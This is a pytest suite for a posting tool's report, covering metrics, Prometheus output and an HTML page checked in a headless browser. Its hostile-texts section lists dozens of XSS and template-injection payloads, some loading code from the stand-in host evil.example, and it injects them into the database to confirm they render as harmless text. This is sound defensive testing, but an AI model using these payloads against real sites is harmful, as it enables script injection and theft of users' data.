"""The report over real databases: text, data, numbers for Prometheus, and the page in a real browser."""

import contextlib
import json
import os
import re
import sqlite3
import stat
import threading
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from prometheus_client.parser import text_string_to_metric_families

from src import db_manager
from src.commands import report as command
from src.domain.errors import StorageError
from src.domain.runs import Exit
from src.system.log import sanitise
from src.watch.report import measures as report
from src.watch.report.page import as_html
from src.watch.report.prometheus import as_prometheus
from src.watch.report.text import as_text
from tests import fake_x
from tests.conftest import need, need_module
from tests.support.browser import new_browser
from tests.support.month import simulate
from tests.support.world import Texts, new_world
from tests.tick.test_health import small_library

HOURS = 60


@dataclass
class Made:
    """A simulated stretch of time and all that was made of it."""

    report: report.PostingReport
    text: str
    data: dict
    numbers: str
    html: str
    tweets: list
    runs: list


def make(world, days=30):
    found = report.read(world.settings, datetime.now(UTC), days)
    return Made(
        found,
        as_text(found, world.settings),
        json.loads(json.dumps(report.as_data(found, world.settings), default=str)),
        as_prometheus(found, world.settings),
        as_html(found, world.settings),
        list(world.x.accepted),
        world.rows("SELECT * FROM runs ORDER BY id"),
    )


@pytest.fixture(scope="module")
def stretch(tmp_path_factory):
    """Two and a half days with an outage, a power cut, credits used up and lost answers."""
    folder = tmp_path_factory.mktemp("stretch")
    with new_world(
        folder, DAILY_BUDGET_USD="1", MONTHLY_BUDGET_USD="20", **small_library(folder, 800)
    ) as world:
        simulate(world, HOURS, composer=Texts())
        yield make(world)


@pytest.fixture
def world(tmp_path):
    with new_world(tmp_path, **small_library(tmp_path, 200)) as made:
        yield made


# ---- what runs measure ---------------------------------------------------------------------------------------------


def test_each_run_measures_itself(world):
    """Phases, memory, processor time, attempts, answers, limits left and cost are kept with the run."""
    world.warm()
    world.x.limits = {"x-rate-limit-remaining": "42"}
    world.tick()
    world.next_slot()
    world.x.on_post(fake_x.close(accept=True))
    world.tick()
    plain, lost = (
        json.loads(row["metrics"])
        for row in world.rows("SELECT metrics FROM runs ORDER BY id DESC LIMIT 2")[::-1]
    )
    assert {
        "open_seconds",
        "settle_seconds",
        "due_seconds",
        "compose_seconds",
        "send_seconds",
        "seconds",
        "program_peak_mb",
        "cpu_seconds",
    } <= set(plain)
    assert (plain["attempts"], plain["http_status"], plain["cost_usd"], plain["x-rate-limit-remaining"]) == (
        1,
        201,
        0.015,
        42,
    )
    assert plain["send_ms"] >= 0
    assert (lost["attempts"], lost["http_status"], lost["reads"]) == (1, 0, 1)
    assert lost["cost_usd"] == pytest.approx(0.015 + 0.001 * 2)
    assert lost["send_seconds"] >= 2, "the pause before the look at the timeline counts as sending"
    ledger = world.rows("SELECT total(usd) FROM spending")[0][0]
    assert ledger == pytest.approx(
        sum(json.loads(row["metrics"])["cost_usd"] for row in world.rows("SELECT metrics FROM runs"))
    )


def test_a_run_that_fails_measures_itself_too(world):
    """A run that ends in trouble, or with nothing to do, keeps what it measured."""
    world.warm()
    world.tick()
    world.move(minutes=1)
    world.tick()
    idle = json.loads(world.rows("SELECT metrics FROM runs ORDER BY id DESC LIMIT 1")[0][0])
    assert {"settle_seconds", "due_seconds", "seconds", "cpu_seconds"} <= set(idle)
    assert "compose_seconds" not in idle


# ---- counting ------------------------------------------------------------------------------------------------------


def test_counts_are_those_of_x(stretch):
    """What the report says was posted is what X holds; every slot is accounted for, every gap has its cause."""
    posted = sum(t.via == "api" for t in stretch.tweets)
    rate = stretch.report.overview.rates["30d"]
    assert rate.posted == posted == sum(day.fates["posted"] for day in stretch.report.by_day)
    assert rate.due == HOURS == len(stretch.report.slots)
    assert sum(gap.slots for gap in stretch.report.gaps) == HOURS - posted
    causes = {gap.cause for gap in stretch.report.gaps}
    for words in (
        "no run on record",
        "no-credits",
        "could not be reached",
        "limit was used up",
        "the tweet is not there",
    ):
        assert any(words in cause for cause in causes), (words, causes)
    assert stretch.report.answers["201 posted"] == sum(
        json.loads(row["metrics"]).get("http_status") == 201 for row in stretch.runs
    )
    spent = sum(usd for day in stretch.report.by_day for usd in day.usd.values())
    assert spent == pytest.approx(sum(json.loads(row["metrics"]).get("cost_usd", 0) for row in stretch.runs))


def test_text_tells_all(stretch):
    """The text has the judgement, what was measured, X's answers, gaps with causes and the last posts with links."""
    assert stretch.text.splitlines()[0] in {"healthy", "needs attention"}
    for words in (
        "whole run, seconds",
        "answer of X, milliseconds",
        "peak of the program, MB",
        "× 201 posted",
        "no-credits",
        "last posts",
    ):
        assert words in stretch.text
    newest = max(t.id for t in stretch.tweets)
    assert f"https://x.com/i/web/status/{newest}" in stretch.text
    assert stretch.data["posts"][0]["tweet_id"] == str(newest)
    assert stretch.data["success"]["30d"]["posted"] == stretch.report.overview.rates["30d"].posted


def test_spread():
    """Middle, 95 of 100, and most."""
    assert report.spread([]) is None
    assert report.spread([3.0]) == report.Spread(1, 3.0, 3.0, 3.0)
    found = report.spread(range(101))
    assert (found.middle, found.high, found.top) == (50, 95, 100)


# ---- Prometheus ----------------------------------------------------------------------------------------------------


def samples(text):
    return {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for family in text_string_to_metric_families(text)
        for s in family.samples
    }


def test_prometheus_reads_what_was_counted(stretch):
    """The text parses, every series has its help, and the numbers are the report's."""
    found = samples(stretch.numbers)
    assert all(
        family.documentation and family.type == "gauge"
        for family in text_string_to_metric_families(stretch.numbers)
    )
    assert all(name.startswith("twitter_manager_") for name, _ in found)
    rate, measures = stretch.report.overview.rates["24h"], stretch.report.measures
    assert found["twitter_manager_slots_posted", (("window", "24h"),)] == rate.posted
    assert found["twitter_manager_success_ratio", (("window", "24h"),)] == rate.share
    assert found["twitter_manager_healthy", ()] == float(not stretch.report.findings)
    assert found["twitter_manager_answer_seconds", (("quantile", "0.5"),)] == pytest.approx(
        measures.latency_ms.middle / 1000
    )
    assert (
        found["twitter_manager_phase_seconds", (("phase", "send"), ("quantile", "1"))]
        == measures.phases["send"].top
    )
    assert (
        found["twitter_manager_peak_memory_bytes", (("process", "program"),)]
        == measures.program_mb.top * 2**20
    )
    assert found["twitter_manager_rate_limit_remaining", (("window", "x-user-limit-24hour"),)] > 0
    assert found["twitter_manager_posts", (("status", "posted"),)] == len(stretch.tweets)
    assert found["twitter_manager_library_days_left", ()] == pytest.approx(
        800 / 24, abs=0.1
    )  # one text a statement, none of which was sent


def test_prometheus_knows_what_is_wrong(world):
    """A refusal shows as a reason, in the exit code and in the breaker's count."""
    world.warm()
    world.x.on_post(fake_x.no_credits())
    world.tick()
    found = samples(make(world).numbers)
    assert (found["twitter_manager_healthy", ()], found["twitter_manager_exit_code", ()]) == (0, 77)
    assert found["twitter_manager_reason", (("name", "blocked"),)] == 1
    assert found["twitter_manager_breaker_refusals_in_a_row", ()] == 1


# ---- files and the command -------------------------------------------------------------------------------------------


def test_files_of_the_command(world, tmp_path):
    """The page is closed to others, the numbers are open; nothing is printed, and a second run replaces both."""
    world.warm()
    page, numbers = tmp_path / "report.html", tmp_path / "twitter.prom"
    for _ in range(2):
        done = world.cli("report", "--html", str(page), "--prometheus", str(numbers))
        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
        assert stat.S_IMODE(page.stat().st_mode) == 0o600
        assert stat.S_IMODE(numbers.stat().st_mode) == 0o644
    assert page.read_text().startswith("<!doctype html>")
    assert samples(numbers.read_text())
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    told = world.cli("report", "--days", "2")
    assert told.returncode == 0
    assert "in 2 days" in told.stdout
    assert json.loads(world.cli("report", "--json").stdout)["days"] == 30


def test_a_file_that_cannot_be_written(world, tmp_path):
    """A folder that is not there: 74 and what to type."""
    done = world.cli("report", "--html", str(tmp_path / "no" / "report.html"))
    assert done.returncode == 74
    assert f"mkdir -p {tmp_path / 'no'}" in done.stderr


def test_a_file_is_whole_or_as_it_was(tmp_path):
    """A link in the place of the file is replaced, not followed; when writing fails, the old file is untouched and nothing is left."""
    target, other = tmp_path / "page", tmp_path / "other"
    other.write_text("theirs")
    target.symlink_to(other)
    command._write(target, "ours")
    assert (target.read_text(), other.read_text(), target.is_symlink()) == ("ours", "theirs", False)
    with pytest.raises(UnicodeEncodeError):
        command._write(target, "half \ud800")
    assert target.read_text() == "ours"
    folder = tmp_path / "folder"
    folder.mkdir()
    with pytest.raises(StorageError) as trouble:
        command._write(folder, "x")
    assert trouble.value.exit_code is Exit.IO
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder", "other", "page"]


def test_before_the_first_run(world):
    """Without a database everything can be asked for and says that there is nothing; no database is made."""
    made = make(world)
    assert "no-database" not in made.text
    assert "Nothing measured yet." in made.html
    assert samples(made.numbers)["twitter_manager_slots_due", (("window", "24h"),)] == 0
    assert not world.database.exists()


def test_ten_thousand_posts(world):
    """After more than a year the page still shows the last days, and is of the size of a picture."""
    world.warm()
    now = datetime.now(UTC)
    with contextlib.closing(sqlite3.connect(world.database)) as db:
        slots = [(now - timedelta(hours=n + 5)) for n in range(10_000)]
        db.executemany(
            "INSERT INTO posts(content, status, origin, slot, fingerprint, tweet_id, sent_at, created_at, attempts) VALUES (?, 'posted', 'wording', ?, ?, ?, ?, ?, 1)",
            (
                (f"text {n}", f"{at:%Y-%m-%dT%H}:00Z", f"f{n}", n + 1, at.timestamp(), at.timestamp())
                for n, at in enumerate(slots)
            ),
        )
        db.executemany(
            "INSERT INTO runs(run_id, command, slot, started, finished, exit_code, outcome, metrics) VALUES (?, 'tick', ?, ?, ?, 0, 'posted', ?)",
            (
                (
                    f"x{n}",
                    f"{at:%Y-%m-%dT%H}:00Z",
                    at.timestamp(),
                    at.timestamp(),
                    '{"compose_seconds": 2.5, "send_seconds": 0.1}',
                )
                for n, at in enumerate(slots)
            ),
        )
        db.commit()
    made = make(world)
    assert made.report.overview.rates["30d"].posted >= 700
    assert len(made.report.by_day) == 31
    assert len(made.html) < 200_000
    assert len(make(world, days=365).report.by_day) == 366


# ---- the page in a browser -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser():
    need_module("selenium")
    need("chromium", "chromium")
    need("chromedriver", "chromium-driver")
    with new_browser() as made:
        yield made


class Pages(BaseHTTPRequestHandler):
    """Serves one page and remembers every path that was asked for."""

    def do_GET(self):
        self.server.asked.append(self.path)
        body = self.server.page.encode() if self.path == "/" else b""
        self.send_response(200 if self.path == "/" else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def site():
    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
        server.page, server.asked = "", []
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        server.url = f"http://127.0.0.1:{server.server_address[1]}/"
        yield server
        server.shutdown()


def visit(browser, site, html, **look):
    site.page, site.asked[:] = html, []
    browser.open(site.url, **look)


# Colour contrast as WCAG counts it, of every element that has text of its own against what lies behind it.
CONTRAST = """
const parse = c => (c.match(/[\\d.]+/g) || []).map(Number);
const light = c => { const [r, g, b] = c.map(v => { v /= 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4 }); return .2126 * r + .7152 * g + .0722 * b };
const behind = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c.slice(0, 3) } return [255, 255, 255] };
let worst = [99, ''];
for (const e of document.querySelectorAll('body *')) {
  if (![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()) || e.closest('title')) continue;
  const s = getComputedStyle(e), ink = parse(e.closest('svg') ? s.fill : s.color).slice(0, 3);
  const [a, b] = [light(ink), light(behind(e))].sort((x, y) => y - x), ratio = (a + .05) / (b + .05);
  if (ratio < worst[0]) worst = [ratio, e.tagName + '.' + e.className + ': ' + e.textContent.slice(0, 40)];
}
return worst;
"""
OVERFLOWING = """
return [...document.querySelectorAll('body *')].filter(e => !e.closest('svg *') && !e.closest('.gaps *') && e.getBoundingClientRect().right > innerWidth + .5)
  .map(e => e.tagName + '.' + e.className)"""


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_page_is_quiet_and_readable(browser, site, stretch, dark):
    """Nothing on the console, no request but for the page, all drawings named, text in contrast with what is behind it."""
    visit(browser, site, stretch.html, dark=dark)
    assert browser.logs() == []
    assert browser.requested() == [site.url]
    assert site.asked == ["/"]
    assert browser.run("return document.querySelectorAll('figure svg').length") == 7
    assert (
        browser.run(
            "return [...document.querySelectorAll('svg')].filter(s => !(s.getAttribute('aria-label') && s.getAttribute('role') === 'img') && s.ariaHidden !== 'true').length"
        )
        == 0
    )
    assert (
        browser.run("return document.querySelectorAll('.pygal-chart .rect, .pygal-chart .dot').length") > 20
    )
    ratio, where = browser.run(CONTRAST)
    assert ratio >= 4.5, where


def test_light_and_dark_differ(browser, site, stretch):
    """The page follows the reader's preference, the drawings too."""
    seen = []
    for dark in (False, True):
        visit(browser, site, stretch.html, dark=dark)
        seen.append(
            browser.run(
                "return ['body', '.card', '.map .is-posted', '.pygal-chart text'].map(q => { const s = getComputedStyle(document.querySelector(q)); return s.backgroundColor + s.fill })"
            )
        )
    assert all(one != other for one, other in zip(*seen, strict=True)), seen


@pytest.mark.parametrize("width", [320, 360, 768])
def test_no_horizontal_scrolling(browser, site, stretch, width):
    """On a phone nothing reaches beyond the edge."""
    visit(browser, site, stretch.html, width=width)
    assert browser.run("return document.documentElement.scrollWidth") <= width
    assert browser.run(OVERFLOWING) == []


def test_labels_can_be_read_on_a_phone(browser, site, stretch):
    """Letters in the drawings are at least nine pixels high on a phone, and those along an axis do not run into each other."""
    visit(browser, site, stretch.html, width=360)
    sizes = browser.run(
        "return [...document.querySelectorAll('svg text')].map(t => parseFloat(getComputedStyle(t).fontSize) * t.getScreenCTM().a)"
    )
    assert min(sizes) >= 9
    collisions = browser.run("""
      const found = [];
      for (const axis of document.querySelectorAll('.axis.x')) {
        const boxes = [...axis.querySelectorAll('text')].map(t => t.getBoundingClientRect()).sort((a, b) => a.left - b.left);
        boxes.forEach((b, n) => { if (n && b.left < boxes[n - 1].right + 2) found.push([n, b.left]) });
      }
      return found""")
    assert collisions == []


def test_the_policy_holds(browser, site, stretch):
    """Even what finds its way into the page could not run, load or send anything: the policy forbids it."""
    visit(browser, site, stretch.html)
    browser.run("""
      const put = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
      put('script', {textContent: 'window.hacked = 1'}); put('img', {src: '/leak.png'}); put('iframe', {src: '/leak'}); put('script', {src: '/leak.js'});
      document.body.insertAdjacentHTML('beforeend', '<b id=styled style="color: red">x</b><a id=trap onclick="window.hacked = 2">x</a><form id=out action="/leak"></form>');
      document.querySelector('#trap').click(); document.querySelector('#out').submit();
      fetch('/leak').catch(() => 0)""")
    complaints = "".join(browser.logs())
    assert complaints.count("Content Security Policy") >= 6
    assert browser.run("return window.hacked") is None
    assert browser.run("return getComputedStyle(document.querySelector('#styled')).color") != "rgb(255, 0, 0)"
    assert site.asked == ["/"]


# ---- hostile texts ---------------------------------------------------------------------------------------------------

ATTACKS = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<iframe src=javascript:window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<object data=javascript:window.hacked=1>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<a href=javascript:window.hacked=1>x</a>",
    '"><script>window.hacked=1</script>',
    "'><script>window.hacked=1</script>",
    '" onmouseover="window.hacked=1',
    "' onmouseover='window.hacked=1",
    "` onmouseover=`window.hacked=1",
    "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</svg><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "<!--<img src='--><img src=x onerror=window.hacked=1>'>",
    "]]><script>window.hacked=1</script>",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<?xml version='1.0'?><script>window.hacked=1</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
    "<img/src=x/onerror=window.hacked=1>",
    "<img\tsrc=x\tonerror=window.hacked=1>",
    "<svg/onload=window.hacked=1//",
    "<x onclick=window.hacked=1>click",
    "<a style=position:fixed;inset:0 href=//evil.example>",
    "\u202e<script>gnp.1=dekcah</script>",
    "\u2028<script>window.hacked=1</script>",
    "\ufeff<script>window.hacked=1</script>",
    "＜script＞window.hacked=1＜/script＞",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "<" * 300,
    "A" * 3000,
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
]


def poison(world, words):
    """Put texts into every field that the page shows, as X's answers, a model, a person or another program might."""
    with contextlib.closing(sqlite3.connect(world.database)) as db:
        for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            db.execute(f"DROP TRIGGER {name}")
        newest = db.execute(
            "SELECT id FROM posts WHERE sent_at IS NOT NULL ORDER BY sent_at DESC LIMIT ?", (len(words),)
        ).fetchall()
        runs = db.execute(
            "SELECT id, slot FROM runs WHERE outcome = 'posted' ORDER BY id DESC LIMIT ?", (len(words),)
        ).fetchall()
        assert len(newest) == len(runs) == len(words)
        for number, (word, (post,), (run, slot)) in enumerate(zip(words, newest, runs, strict=True)):
            db.execute("UPDATE posts SET slot = NULL WHERE slot = ?", (slot,))
            db.execute(
                "UPDATE posts SET content = ?, topic = ?, error_message = ?, vanished_at = 1 WHERE id = ?",
                (word, word, word, post),
            )
            db.execute("UPDATE runs SET outcome = ?, message = ? WHERE id = ?", (word, word, run))
            db.execute("DELETE FROM attempts WHERE slot = ?", (slot,))
            if number % 2:  # the cause of every second gap is what X said, of the others how the run ended
                db.execute(
                    "INSERT INTO attempts(post_id, started, slot, outcome, http_status, reason, latency_ms, run_id)"
                    " VALUES (?, (SELECT started FROM runs WHERE id = ?), '', ?, 400, ?, 5, 'x')",
                    (post, run, word, word),
                )
            db.execute(
                "INSERT INTO candidates(run_id, created_at, source_id, opening, score, reasons) VALUES ('x', (SELECT max(started) FROM runs), 's', ?, 0, ?)",
                (word, word.replace(",", "")),
            )
            db.execute(
                "INSERT INTO spending(at, kind, units, usd) VALUES ((SELECT max(at) FROM spending), ?, 1, 0.001)",
                (word,),
            )
        hold = {"kind": "blocked", "reason": words[0], "until": None, "fix": words[1], "count": 3, "since": 0}
        limits = [[word, 100, 7, 4e9] for word in words[:3]]
        last = db.execute("SELECT max(id), metrics FROM runs").fetchone()
        db.execute(
            "UPDATE runs SET metrics = ? WHERE id = ?",
            (
                json.dumps({**json.loads(last[1]), **{f"{word}-left-share": 0.5 for word in words[:3]}}),
                last[0],
            ),
        )
        db.execute(
            "INSERT OR REPLACE INTO meta VALUES ('hold', ?), ('limits', ?)",
            (json.dumps(hold), json.dumps(limits)),
        )
        db.commit()


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes: what must not depend on the texts in it."""

    def __init__(self, html):
        super().__init__()
        self.seen = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.seen.append((tag, *(name for name, _ in attributes)))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Pages with twenty attacks each in every field, and the same page with harmless words."""
    size = 17
    folder = tmp_path_factory.mktemp("hostile")
    with new_world(folder, **small_library(folder, 200)) as world:
        world.warm()
        for _ in range(size):
            world.tick()
            world.next_slot()
        clean = world.database.read_bytes()
        groups = [ATTACKS[n : n + size] for n in range(0, len(ATTACKS), size)]
        pages = []
        for words in (*groups, [f"harmless word {n}" for n in range(size)]):
            world.database.write_bytes(clean)
            poison(world, (words + ["padding"] * size)[:size])
            pages.append((words, make(world)))
        yield pages[:-1], pages[-1][1]


def test_enough_attacks():
    """At least fifty, all different."""
    assert len(set(ATTACKS)) >= 50


def test_attacks_are_text(browser, site, hostile):
    """Whatever stands in posts, topics, errors, causes, gates, limits or holds is shown as text, and nothing runs, loads or appears."""
    pages, harmless = hostile
    plain = {tag for tag in Skeleton(harmless.html).seen}
    for words, made in pages:
        assert set(Skeleton(made.html).seen) <= plain
        visit(browser, site, made.html, width=360)
        assert browser.logs() == []
        assert site.asked == ["/"]
        assert browser.run("return window.hacked") is None
        tags = set(browser.run("return [...document.querySelectorAll('*')].map(e => e.localName)"))
        assert tags <= {tag for tag, *_ in plain}
        assert not browser.run(
            "return [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')).length"
        )
        links = browser.run(
            "return [...document.querySelectorAll('[href], [src]')].map(e => e.getAttribute('href') || e.getAttribute('src'))"
        )
        assert all(re.fullmatch(r"https://x\.com/i/web/status/\d+", link) for link in links)
        assert browser.run("return document.documentElement.scrollWidth") <= 360
        shown = " ".join(browser.run("return document.querySelector('.posts').innerText").split())
        causes = " ".join(browser.run("return document.querySelector('.gaps').textContent").split())
        for word in words:
            assert " ".join(" ".join(map(sanitise, word.splitlines())).split()) in shown, word
            assert " ".join(sanitise(word[:160]).split()) in causes, word
        answers = " ".join(browser.run("return document.body.textContent").split())
        assert all(" ".join(sanitise(f"400 {word}").split()) in answers for word in words[1::2])


def test_attacks_in_text_and_numbers(hostile):
    """The text for terminals has no control characters; Prometheus' parser reads hostile names back as they were."""
    for words, made in hostile[0]:
        lines = "\n".join(map(sanitise, made.text.splitlines()))
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", lines)
        names = {
            dict(labels)["window"]
            for name, labels in samples(made.numbers)
            if name == "twitter_manager_rate_limit_remaining"
        }
        assert names == set(words[:3])


def test_a_database_opened_for_the_report_is_not_written(world):
    """The report reads a copy: the file keeps every byte."""
    world.warm()
    before = world.database.read_bytes()
    make(world)
    assert world.database.read_bytes() == before
    assert db_manager.open_for_reading(world.database) is not None
    assert os.listdir(world.database.parent).count("twitter.db-journal") == 0
